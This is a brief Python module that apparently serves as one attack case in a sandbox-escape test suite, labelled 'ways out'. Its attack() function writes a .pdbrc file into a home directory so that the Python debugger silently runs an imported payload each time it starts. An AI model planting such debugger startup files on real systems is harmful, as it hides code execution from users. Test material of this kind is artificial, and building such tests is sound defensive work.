"""Commands for the debugger, in a file that it reads."""
CATEGORY = "ways out"
REACH = "run"
POLICIES = "baseline"

from . import payload


def attack():
    with open(f"{payload.ROOT}/home/.pdbrc", "w") as file:
        file.write(f"!{payload.SOURCE}\ncontinue\n")
